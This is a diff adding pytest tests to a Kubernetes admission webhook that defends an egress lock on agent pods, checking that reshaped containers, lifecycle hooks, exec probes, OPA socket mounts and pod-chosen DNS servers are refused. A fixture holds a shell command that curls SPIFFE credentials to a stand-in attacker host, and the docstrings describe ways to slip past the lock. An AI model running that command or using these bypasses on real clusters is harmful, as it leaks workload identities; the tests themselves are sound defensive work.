@@ -346,3 +346,133 @@ def test_the_params_match_the_webhook_configs(tmp_path):
     assert dataclasses.replace(prod, egress_lock=base.egress_lock, sidecar=unshared) == base
     overlay = (ROOT / "k8s/overlays/prod/kustomization.yaml").read_text()
     assert 'path: /data/egress_lock_required\n        value: "true"' in overlay
+
+
+LOCK_SHAPE = "the egress lock container must run as the webhook injects it"
+SIDECAR_SHAPE = "the agent-sidecar container takes no lifecycle hook"
+EXEC = {"exec": {"command": ["/bin/sh", "-c", "curl https://evil.example -d @/spiffe"]}}
+
+
+@pytest.mark.parametrize(
+    ("case", "change"),
+    [
+        ("egress-lock-opa", {"restartPolicy": "Always"}),  # a native sidecar: the agent first
+        ("egress-lock-opa", {"lifecycle": {"postStart": EXEC}}),
+        ("egress-lock-opa", {"startupProbe": EXEC}),
+        ("egress-lock-opa", {"readinessProbe": EXEC}),
+        ("egress-lock-opa", {"livenessProbe": EXEC}),
+        ("egress-lock-opa", {"workingDir": "/tmp"}),
+        ("egress-lock-opa", {"securityContext": {"runAsUser": 1001}}),
+        ("egress-lock-opa", {"securityContext": {}}),
+        ("egress-lock-init", {"securityContext": {"runAsUser": 65532}}),
+        ("egress-lock-init", {"args": ["egress-lock", "--allow-uid", "65532", "--allow-uid",
+                                       "65533"]}),  # OPA's uid let out everywhere
+    ],
+    ids=["restart-always", "post-start", "startup-exec", "readiness-exec", "liveness-exec",
+         "working-dir", "other-uid", "no-uid", "init-not-root", "init-opa-anywhere"],
+)  # fmt: skip
+def test_review_reshaped_lock_container_is_refused(case, change):
+    """MEDIUM: with the webhook bypassed, the lock container could become a native sidecar
+    (the agent then starts before the lock) or run the pod's commands (lifecycle hooks, exec
+    probes) as the sidecar's uid, the one the lock lets out."""
+    spec = yaml.safe_load((TESTDATA / f"{case}.yaml").read_text())
+    case_params = params(True, spec["webhook"])
+    pod = golden(case)
+    assert admit(INJECTED, pod, namespace(), case_params).allowed
+    pod["spec"]["initContainers"][0].update(change)
+    verdict = admit(INJECTED, pod, namespace(), case_params)
+    assert any(LOCK_SHAPE in failure for failure in verdict.failures), verdict.failures
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"lifecycle": {"postStart": EXEC}},
+        {"lifecycle": {"preStop": EXEC}},
+        {"startupProbe": EXEC},
+        {"readinessProbe": EXEC},
+        {"livenessProbe": EXEC},
+        {"livenessProbe": {"exec": {"command": ["agent-sidecar", "serve", "--config", "/x"]}}},
+    ],
+    ids=["post-start", "pre-stop", "startup-exec", "readiness-exec", "liveness-exec",
+         "other-cli"],
+)  # fmt: skip
+@pytest.mark.parametrize("lock", [True, False])
+def test_review_sidecar_runs_no_command_of_the_pods_own(change, lock):
+    """MEDIUM: a lifecycle hook or an exec probe on agent-sidecar ran the pod's command as the
+    sidecar (its uid the lock lets out, its SVID at hand): refused, lock or not."""
+    case = "egress-lock-opa" if lock else "native-off"
+    pod = golden(case)
+    sidecar = next(
+        c
+        for c in pod["spec"].get("initContainers", []) + pod["spec"]["containers"]
+        if c["name"] == "agent-sidecar"
+    )
+    sidecar.update(change)
+    _refused(pod, lock, SIDECAR_SHAPE)
+
+
+def test_review_sidecar_probes_as_injected_are_admitted():
+    """The injected probes: grpc (health_port) or `agent-sidecar health` (health_port 0)."""
+    pod = golden("egress-lock-opa")
+    sidecar = next(c for c in pod["spec"]["initContainers"] if c["name"] == "agent-sidecar")
+    health = {"exec": {"command": ["agent-sidecar", "health", "--addr", "unix:///x.sock"]}}
+    for probe in ("startupProbe", "readinessProbe", "livenessProbe"):
+        sidecar[probe] = health
+    assert admit(INJECTED, pod, namespace(), params(True)).allowed
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"lifecycle": {"postStart": EXEC}},
+        {"livenessProbe": EXEC},
+        {"args": ["run", "--server", "--addr=127.0.0.1:8181", "--config-file=/config/opa.yaml"]},
+        {"securityContext": {"runAsUser": 65532}},
+    ],
+    ids=["post-start", "exec-probe", "tcp-api", "sidecar-uid"],
+)
+def test_review_opa_reshaped_loses_its_exemption(change):
+    """HIGH: OPA is exempt from the uid check only as injected: API on its socket (never the
+    pod's loopback), no command of the pod's own, its own uid."""
+    pod = golden("egress-lock-opa")
+    opa = next(c for c in pod["spec"]["initContainers"] if c["name"] == "opa")
+    opa.update(change)
+    _refused(pod, True, UID)
+
+
+def test_review_opa_only_the_sidecar_and_opa_mount_its_socket():
+    """HIGH: OPA's API has no authentication; an agent mounting its socket could ask it."""
+    for lock in (True, False):
+        pod = golden("egress-lock-opa")
+        mount = {"name": "agent-sidecar-opa-socket", "mountPath": "/run/opa"}
+        pod["spec"]["containers"][0].setdefault("volumeMounts", []).append(mount)
+        _refused(pod, lock, "only the agent-sidecar and opa containers may mount OPA's socket")
+
+
+@pytest.mark.parametrize(
+    "spec_change",
+    [{"dnsPolicy": "None", "dnsConfig": {"nameservers": ["203.0.113.53"]}},
+     {"dnsConfig": {"nameservers": ["203.0.113.53"]}}],
+    ids=["dns-policy-none", "extra-nameservers"],
+)  # fmt: skip
+def test_review_dns_a_pod_naming_its_own_nameservers_is_refused(spec_change):
+    """MEDIUM: in dns: resolvers, the pod's resolv.conf chose where port 53 went."""
+    settings = {"egress_lock": {"enabled": True, "dns": "resolvers", "dns_servers": ["10.96.0.10"]}}
+    pod = golden("egress-lock-opa")
+    pod["spec"].update(spec_change)
+    verdict = admit(INJECTED, pod, namespace(), params(True, settings))
+    assert any("resolves through the cluster DNS" in f for f in verdict.failures), verdict.failures
+    # Without DNS let out, the pod's resolver choice widens nothing.
+    assert admit(INJECTED, pod, namespace(), params(True)).allowed
+
+
+def test_review_dns_init_lock_takes_only_the_configured_dns_servers():
+    spec = yaml.safe_load((TESTDATA / "egress-lock-init.yaml").read_text())
+    case_params = params(True, spec["webhook"])
+    pod = golden("egress-lock-init")
+    assert admit(INJECTED, pod, namespace(), case_params).allowed
+    args = pod["spec"]["initContainers"][0]["args"]
+    args[args.index("--dns-server") + 1] = "203.0.113.53"
+    verdict = admit(INJECTED, pod, namespace(), case_params)
+    assert any(LOCK_SHAPE in failure for failure in verdict.failures), verdict.failures
